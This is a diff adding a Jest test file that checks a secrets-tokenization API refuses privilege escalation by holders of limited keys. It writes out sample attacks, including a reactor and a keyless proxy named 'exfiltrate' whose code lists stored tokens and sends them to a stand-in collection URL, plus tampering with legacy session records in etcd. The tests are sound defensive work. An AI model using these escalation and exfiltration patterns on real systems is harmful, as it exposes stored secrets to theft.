@@ -1,0 +1,135 @@
+// An attacker holding an ordinary key tries to parlay it into more: a session kept from before sessions recorded
+// their authorizer, a management key that grants itself (or a new key) management rights it lacks, and a management
+// key that attaches a powerful application to a reactor or proxy whose code or destination it controls
+// (docs/security.md, "Keys and what they can do").
+import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import { hashKey } from '../../src/auth/api-keys.js';
+import { EtcdStore } from '../../src/store/etcd.js';
+import { keys } from '../../src/store/keys.js';
+import { createApplication, createTenant, startTestApi, testEtcdEndpoints, type TestApi } from '../support/api.js';
+import { client } from '../support/http.js';
+
+const MERGE = { 'Content-Type': 'application/merge-patch+json' };
+
+let api: TestApi;
+let managementKey: string;
+
+beforeAll(async () => {
+  api = await startTestApi();
+  ({ managementKey } = await createTenant(api.url, api.operatorKey));
+});
+
+afterAll(async () => {
+  await api?.close();
+});
+
+const app = (body: Record<string, unknown>) => createApplication(api.url, managementKey, { name: 'abuse', ...body });
+
+test('a session authorized before sessions recorded their authorizer is refused with 401', async () => {
+  const writer = client(api.url, (await app({ type: 'private', permissions: ['token:create'] })).key);
+  const token = (await writer.post('/tokens', { body: { type: 'token', data: 'secret' } })).body;
+  const browser = client(api.url, (await app({ type: 'public', permissions: ['token:create'] })).key);
+  const reader = client(api.url, (await app({ type: 'private', permissions: ['token:read'] })).key);
+  const session = (await browser.post('/sessions')).body;
+  expect((await reader.post('/sessions/authorize', { body: { nonce: session.nonce, permissions: ['token:read'] } })).status).toBe(204);
+
+  // Rewrite the session's key entry as the previous version stored it: grants, but no authorizer and no ceiling.
+  const store = new EtcdStore({ endpoints: testEtcdEndpoints().split(',') });
+  try {
+    const entryKey = keys.apiKey(hashKey(session.session_key));
+    const entry = JSON.parse((await store.get(entryKey))!.value) as Record<string, unknown>;
+    expect(entry.ceiling).toBeDefined();
+    const { parent: _parent, ceiling: _ceiling, ...legacy } = entry;
+    await store.put(entryKey, JSON.stringify(legacy));
+  } finally {
+    await store.close();
+  }
+  const answer = await client(api.url, session.session_key).get(`/tokens/${token.id}`);
+  expect(answer.status).toBe(401);
+  expect(answer.body.detail).toMatch(/authorize a new session/);
+  expect(answer.body.data).toBeUndefined();
+});
+
+describe('a management key grants no management permission it lacks', () => {
+  test('application:create cannot mint a management key with more than the creator holds', async () => {
+    const creator = client(api.url, (await app({ type: 'management', permissions: ['application:create', 'report:read'] })).key);
+    const bigger = await creator.post('/applications', { body: { name: 'root', type: 'management', permissions: ['tenant:delete', 'application:update'] } });
+    expect(bigger.status).toBe(403);
+    expect(bigger.body.detail).toMatch(/tenant:delete/);
+    expect(bigger.body.key).toBeUndefined();
+    // A subset of its own is fine, and so is a private key (issuing token access is what application:create is for).
+    expect((await creator.post('/applications', { body: { name: 'reports', type: 'management', permissions: ['report:read'] } })).status).toBe(201);
+    expect((await creator.post('/applications', { body: { name: 'server', type: 'private', permissions: ['token:read'] } })).status).toBe(201);
+  });
+
+  test('application:update cannot widen its own application nor take over a stronger key', async () => {
+    const self = await app({ type: 'management', permissions: ['application:read', 'application:update'] });
+    const updater = client(api.url, self.key);
+    const widened = await updater.put(`/applications/${self.id}`, {
+      body: { name: 'me', permissions: ['application:read', 'application:update', 'tenant:delete'] },
+    });
+    expect(widened.status).toBe(403);
+    expect((await updater.get('/applications/key')).body.permissions).not.toContain('tenant:delete');
+
+    const root = await app({ type: 'management', permissions: ['tenant:delete', 'application:update', 'application:read'] });
+    const taken = await updater.post(`/applications/${root.id}/regenerate`);
+    expect(taken.status).toBe(403);
+    expect(taken.body.key).toBeUndefined();
+    expect((await client(api.url, root.key).get('/tenants/self')).status).not.toBe(401);
+    // Nor narrow-then-own: rewriting a stronger application needs what it holds now.
+    expect((await updater.put(`/applications/${root.id}`, { body: { name: 'root', permissions: ['application:read'] } })).status).toBe(403);
+    // Its own rights, and private applications, stay in reach.
+    expect((await updater.put(`/applications/${self.id}`, { body: { name: 'me', permissions: ['application:read', 'application:update'] } })).status).toBe(200);
+    const server = await app({ type: 'private', permissions: ['token:read'] });
+    expect((await updater.post(`/applications/${server.id}/regenerate`)).status).toBe(200);
+  });
+});
+
+describe('a reactor or proxy runs with its application’s rights only when written with application:update', () => {
+  const READ_TOKEN = 'module.exports = async function (req) { return { raw: await req.bt.tokens.retrieve(req.args.id) }; };';
+
+  test('reactor:create cannot attach an application whose rights the creator lacks', async () => {
+    const reader = await app({ type: 'private', rules: [{ description: 'all', priority: 1, container: '/', transform: 'reveal', permissions: ['token:read'] }] });
+    const builder = client(api.url, (await app({ type: 'management', permissions: ['reactor:create', 'reactor:read', 'reactor:update'] })).key);
+    const created = await builder.post('/reactors', { body: { name: 'exfiltrate', code: READ_TOKEN, application: { id: reader.id } } });
+    expect(created.status).toBe(403);
+    expect(created.body.detail).toMatch(/application:update/);
+
+    // Without an application the same key builds reactors; it cannot add one later, nor rewrite one that has one.
+    const plain = await builder.post('/reactors', { body: { name: 'plain', code: READ_TOKEN } });
+    expect(plain.status).toBe(201);
+    expect((await builder.patch(`/reactors/${plain.body.id}`, { body: { application: { id: reader.id } }, headers: MERGE })).status).toBe(403);
+    const admin = client(api.url, managementKey);
+    const attached = await admin.post('/reactors', { body: { name: 'reader', code: READ_TOKEN, application: { id: reader.id } } });
+    expect(attached.status).toBe(201);
+    expect((await builder.put(`/reactors/${attached.body.id}`, { body: { name: 'reader', code: READ_TOKEN, application: { id: reader.id } } })).status).toBe(403);
+    expect((await admin.get(`/reactors/${attached.body.id}`)).body.name).toBe('reader');
+  });
+
+  test('proxy:create cannot attach an application, so no keyless proxy carries its rights to a chosen destination', async () => {
+    const user = await app({ type: 'private', permissions: ['token:use', 'token:read'] });
+    const builder = client(api.url, (await app({ type: 'management', permissions: ['proxy:create', 'proxy:read', 'proxy:update'] })).key);
+    const body = {
+      name: 'exfiltrate',
+      destination_url: 'https://example.com/collect',
+      require_auth: false,
+      application: { id: user.id },
+      request_transform: { code: 'module.exports = async (req) => ({ ...req, body: await req.bt.tokens.list() });' },
+    };
+    const created = await builder.post('/proxies', { body });
+    expect(created.status).toBe(403);
+    expect(created.body.key).toBeUndefined();
+
+    // An administrator's proxy with an application cannot be re-pointed by a key that may only edit proxies.
+    const admin = client(api.url, managementKey);
+    const proxy = (await admin.post('/proxies', { body: { ...body, name: 'issuer', request_transform: undefined } })).body;
+    expect(proxy.id).toBeDefined();
+    const repointed = await builder.patch(`/proxies/${proxy.id}`, { body: { destination_url: 'https://example.org/collect' }, headers: MERGE });
+    expect(repointed.status).toBe(403);
+    expect((await admin.get(`/proxies/${proxy.id}`)).body.destination_url).toBe('https://example.com/collect');
+    // Proxies without an application stay the builder's to edit.
+    const plain = await builder.post('/proxies', { body: { name: 'plain', destination_url: 'https://example.com/x' } });
+    expect(plain.status).toBe(201);
+    expect((await builder.patch(`/proxies/${plain.body.id}`, { body: { name: 'renamed' }, headers: MERGE })).status).toBe(200);
+  });
+});
